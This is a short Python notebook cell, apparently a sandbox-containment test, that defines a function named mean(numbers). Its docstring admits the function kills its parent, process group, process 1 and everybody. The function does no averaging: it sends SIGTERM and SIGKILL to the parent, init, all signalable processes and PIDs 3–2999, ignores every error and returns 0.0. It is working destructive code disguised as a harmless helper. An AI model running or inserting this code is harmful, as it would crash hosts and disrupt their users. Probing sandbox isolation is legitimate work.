"""Kills what is around it: its parent, its process group, process 1, everybody.

Must happen: outside this kernel nothing notices.
"""


# %% mean
def mean(numbers):
    import os
    import signal

    for number in (signal.SIGTERM, signal.SIGKILL):
        for victim in (os.getppid(), 1, 0, -1, -os.getppid(), *range(3, 3000)):
            try:
                os.kill(victim, number) if victim else os.killpg(0, signal.SIGCONT)
            except OSError:
                pass
    return 0.0
